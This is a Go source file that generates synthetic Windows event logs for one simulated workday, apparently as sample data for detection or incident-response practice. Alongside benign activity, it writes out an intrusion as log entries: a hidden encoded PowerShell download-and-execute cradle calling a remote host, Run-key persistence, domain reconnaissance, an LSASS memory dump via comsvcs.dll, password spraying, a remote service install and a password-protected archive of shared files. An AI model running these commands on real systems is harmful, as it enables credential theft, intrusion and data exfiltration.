package sample

import (
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"time"
	"unicode/utf16"
)

// Programs of an ordinary day.
const (
	outlook    = `C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`
	word       = `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`
	browser    = `C:\Program Files\Mozilla Firefox\firefox.exe`
	powershell = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	cmd        = `C:\Windows\System32\cmd.exe`
	services   = `C:\Windows\System32\services.exe`
	svchost    = `C:\Windows\System32\svchost.exe`
)

// work is what the machines log anyway.
func (d *day) work() {
	d.start(at("07:58:12"), process{image: outlook, product: "Microsoft Outlook"})
	d.start(at("07:58:40"), process{image: browser, product: "Firefox"})
	for i := range 30 {
		t := at("08:00:00").Add(time.Duration(i)*17*time.Minute + time.Duration(d.random.IntN(600))*time.Second)
		switch i % 4 {
		case 0:
			d.start(t, process{image: svchost, command: svchost + " -k netsvcs -p -s wuauserv", parent: services, user: `NT AUTHORITY\SYSTEM`})
		case 1:
			d.connect(t, browser, fmt.Sprintf("198.51.100.%d", 10+i), "www.example.org", 443)
		case 2:
			d.resolve(t, outlook, "mail.corp.example", "192.0.2.5")
		default:
			d.start(t, process{image: `C:\Windows\System32\notepad.exe`, command: fmt.Sprintf(`notepad.exe C:\Users\e.novak\Documents\notes-%02d.txt`, i)})
		}
	}
	for i := range 24 {
		t := at("07:30:00").Add(time.Duration(i)*20*time.Minute + time.Duration(d.random.IntN(900))*time.Second)
		id := d.logOn(t, "WS17$", "S-1-5-21-1004336348-1177238915-682003330-1517", workAddress, 3)
		d.logOff(t.Add(9*time.Second), "WS17$", "S-1-5-21-1004336348-1177238915-682003330-1517", id, 3)
		if i%6 == 0 {
			d.logOn(t.Add(40*time.Second), "SYSTEM", "S-1-5-18", "-", 5)
			d.system = append(d.system, beat{d.jitter(t), 7036, map[string]string{"param1": "Windows Update", "param2": "running"}})
		}
	}
	for i := range 6 {
		t := at("08:10:00").Add(time.Duration(i) * 83 * time.Minute)
		d.script(t, fmt.Sprintf("# inventory %d\nGet-CimInstance Win32_LogicalDisk | Select-Object DeviceID, FreeSpace | Export-Csv -NoTypeInformation C:\\ProgramData\\Inventory\\disks.csv\n", i), `C:\ProgramData\Inventory\disks.ps1`)
	}
	d.refuse(at("08:02:31"), user, workAddress) // a typing mistake
}

// intrusion is what makes the day worth reading.
func (d *day) intrusion() {
	d.firstFoothold()
	d.lookAround()
	d.toTheServer()
}

func (d *day) firstFoothold() {
	cradle := fmt.Sprintf("IEX (New-Object Net.WebClient).DownloadString('https://%s/a')", farName)
	d.start(at("08:30:52"), process{image: word, command: `"` + word + `" /n "C:\Users\e.novak\Downloads\Invitation.docm"`, parent: outlook, product: "Microsoft Word"})
	d.start(at("08:31:00"), process{image: powershell, command: "powershell.exe -nop -w hidden -enc " + encoded(cradle), parent: word, product: "Windows PowerShell"})
	d.script(at("08:31:02"), cradle, "")
	d.resolve(at("08:31:03"), powershell, farName, farAddress)
	d.connect(at("08:31:03"), powershell, farAddress, farName, 443)
	d.create(at("08:31:09"), powershell, implant)
	d.set(at("08:31:11"), powershell, `HKU\`+userSID+`\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater`, implant)
	d.start(at("08:31:15"), process{image: implant, parent: powershell, product: "Updater"})
	for i := range 5 {
		d.connect(at("08:32:00").Add(time.Duration(i)*10*time.Minute), implant, farAddress, farName, 443)
	}
}

func (d *day) lookAround() {
	for i, c := range [][2]string{
		{"whoami.exe", "whoami /all"},
		{"ipconfig.exe", "ipconfig /all"},
		{"net.exe", `net group "Domain Admins" /domain`},
		{"nltest.exe", "nltest /domain_trusts"},
		{"systeminfo.exe", "systeminfo"},
		{"net.exe", "net view /domain"},
		{"quser.exe", "quser"},
	} {
		d.start(at("08:40:00").Add(time.Duration(i)*13*time.Second),
			process{image: `C:\Windows\System32\` + c[0], command: c[1], parent: cmd, parentCommand: "cmd.exe /Q"})
	}
	d.start(at("09:05:20"), process{
		image: `C:\Windows\System32\rundll32.exe`, command: `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 712 C:\Users\Public\d.bin full`,
		parent: cmd, parentCommand: "cmd.exe /Q", user: `NT AUTHORITY\SYSTEM`,
	})
	d.open(at("09:05:21"), `C:\Windows\System32\rundll32.exe`, `C:\Windows\system32\lsass.exe`, "0x1fffff")
	d.create(at("09:05:22"), `C:\Windows\System32\rundll32.exe`, `C:\Users\Public\d.bin`)
}

func (d *day) toTheServer() {
	for i := range 14 {
		d.refuse(at("09:40:00").Add(time.Duration(i)*11*time.Second), fmt.Sprintf("svc-%02d", i+1), workAddress)
	}
	d.logOn(at("09:51:30"), admin, adminSID, workAddress, 3)
	d.share(at("09:52:02"), "ADMIN$", `Temp\upd.exe`, "%%4417\r\n\t\t\t\t%%4418\r\n\t\t\t\t")
	d.system = append(d.system, beat{d.jitter(at("09:52:10")), 7045, map[string]string{
		"ServiceName": "Updater", "ImagePath": `C:\Windows\Temp\upd.exe`, "ServiceType": "user mode service",
		"StartType": "auto start", "AccountName": "LocalSystem",
	}})
	d.run(at("09:52:11"), `C:\Windows\Temp\upd.exe`, `C:\Windows\Temp\upd.exe`, services)
	d.run(at("10:14:40"), `C:\Windows\Temp\7z.exe`,
		`7z.exe a -pW1nter2026 -mhe C:\Windows\Temp\m.7z "D:\Shares\Ministry\Correspondence"`, `C:\Windows\Temp\upd.exe`)
}

// encoded is a command as PowerShell's -EncodedCommand takes it.
func encoded(command string) string {
	var b []byte
	for _, unit := range utf16.Encode([]rune(command)) {
		b = binary.LittleEndian.AppendUint16(b, unit)
	}
	return base64.StdEncoding.EncodeToString(b)
}
